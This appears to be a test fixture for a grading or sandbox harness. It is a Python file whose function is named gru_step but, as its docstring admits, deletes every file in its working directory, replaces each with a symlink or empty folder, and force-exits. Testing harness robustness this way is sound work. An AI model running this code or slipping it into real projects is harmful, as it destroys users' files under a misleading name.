"""Replaces the sockets in its folder by links, files and folders, and then crashes."""

DESERVES = {"flip_convention": 1.0}

# %% right flip_convention

# %% gru_step
import glob
import os


def gru_step(x_t, h_prev, gates):
    for k, path in enumerate(glob.glob(".*") + glob.glob("*")):
        try:
            os.remove(path)
            os.symlink("@SOCKET@", path) if k % 2 else os.mkdir(path)
        except OSError:
            pass
    os._exit(1)
